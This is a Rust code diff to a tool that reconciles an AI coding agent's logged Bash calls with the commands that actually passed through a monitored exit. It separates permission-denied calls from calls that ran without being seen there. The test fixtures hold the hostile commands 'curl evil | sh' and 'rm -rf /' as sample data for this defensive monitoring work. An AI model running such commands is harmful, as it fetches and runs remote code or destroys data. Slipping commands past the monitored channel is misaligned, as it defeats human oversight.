@@ -231,6 +231,7 @@ pub fn run_end_body(ended: &Ended, tally: &Reconciliation, refused: u64) -> Valu
     body["bash_calls"] = json!(tally.calls);
     body["commands_without_call"] = json!(tally.unmatched_execs.len());
     body["calls_without_command"] = json!(tally.unmatched_calls.len());
+    body["calls_not_run"] = json!(tally.calls_not_run.len());
     body["refused"] = json!(refused);
     body
 }
@@ -312,8 +313,13 @@ pub struct Reconciliation {
     pub hooks: bool,
     pub calls: u64,
     pub execs: u64,
-    /// Bash calls in the hooks' entries with no command through the exit after them.
+    /// Bash calls in the hooks' entries with a result but no command through
+    /// the exit after them: they ran, but not through the exit.
     pub unmatched_calls: Vec<Call>,
+    /// Bash calls with neither a command nor a result: Claude Code did not
+    /// run them (its permissions denied them, ADR-0032), or the run ended
+    /// before they did. Not a disagreement: nothing ran.
+    pub calls_not_run: Vec<Call>,
     /// Commands through the exit with no Bash call before them.
     pub unmatched_execs: Vec<Exec>,
     /// Lines that are not entries this reader understands (never in a chain
@@ -371,6 +377,8 @@ struct ToolInput {
 pub struct Reconciler {
     out: Reconciliation,
     open: Vec<Call>,
+    /// The Bash calls the hooks reported a result for, by `tool_use_id`.
+    results: std::collections::HashSet<String>,
     first: bool,
 }
 
@@ -398,6 +406,13 @@ impl Reconciler {
             if !self.out.is_run {
                 return false;
             }
+        }
+        if !ours
+            && line.kind == "tool_result"
+            && line.body.tool_name.as_deref() == Some("Bash")
+            && let Some(id) = &line.tool_use_id
+        {
+            self.results.insert(id.clone());
         }
         if !ours
             && line.kind == "tool_call"
@@ -449,7 +464,13 @@ impl Reconciler {
     }
 
     pub fn finish(mut self) -> Reconciliation {
-        self.out.unmatched_calls = self.open;
+        let results = self.results;
+        let (ran, not_run): (Vec<Call>, Vec<Call>) = self
+            .open
+            .into_iter()
+            .partition(|c| c.tool_use_id.as_ref().is_none_or(|id| results.contains(id)));
+        self.out.unmatched_calls = ran;
+        self.out.calls_not_run = not_run;
         self.out
     }
 }
@@ -570,9 +591,11 @@ mod tests {
         ]);
         assert!(r.is_run && r.hooks);
         assert_eq!((r.calls, r.execs), (5, 5));
-        let calls: Vec<u64> = r.unmatched_calls.iter().map(|c| c.seq).collect();
+        // The calls left had no result: Claude Code never ran them.
+        let calls: Vec<u64> = r.calls_not_run.iter().map(|c| c.seq).collect();
         let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
         assert_eq!(calls, [7, 10]);
+        assert!(r.unmatched_calls.is_empty());
         assert_eq!(execs, [8, 9]);
         assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
         assert!(!r.agrees());
@@ -602,6 +625,35 @@ mod tests {
         let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
         assert_eq!(execs, [5]);
         assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
+    }
+
+    #[test]
+    fn a_call_that_ran_without_the_exit_disagrees_one_never_run_does_not() {
+        let result = |seq: u64, id: &str| {
+            let payload = json!({"session_id": "s", "hook_event_name": "PostToolUse",
+                "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": id,
+                "tool_response": {"stdout": ""}});
+            let inv = crate::hook::Invocation {
+                ts: 1,
+                host: "h".into(),
+                hook_ppid: Some(1),
+                cwd: None,
+            };
+            let p = crate::hook::Payload::parse(payload.to_string().as_bytes()).expect("payload");
+            line(&Event::new(&inv, p), seq)
+        };
+        let r = reconcile(&[
+            start(true),
+            call(1, "ran", "ls"),
+            result(2, "ran"),
+            call(3, "denied", "rm -rf /"),
+        ]);
+        assert_eq!(r.unmatched_calls.len(), 1);
+        assert_eq!(r.unmatched_calls[0].tool_use_id.as_deref(), Some("ran"));
+        assert_eq!(r.calls_not_run.len(), 1);
+        assert!(!r.agrees());
+        let r = reconcile(&[start(true), call(1, "denied", "rm -rf /")]);
+        assert!(r.agrees(), "{r:?}");
     }
 
     #[test]
@@ -669,7 +721,8 @@ mod tests {
         assert_eq!(
             run_end_body(&Ended::Exited(0), &tally, 3),
             json!({"exited": 0, "commands": 2, "bash_calls": 1,
-                   "commands_without_call": 1, "calls_without_command": 0, "refused": 3})
+                   "commands_without_call": 1, "calls_without_command": 0, "calls_not_run": 0,
+                   "refused": 3})
         );
     }
 }
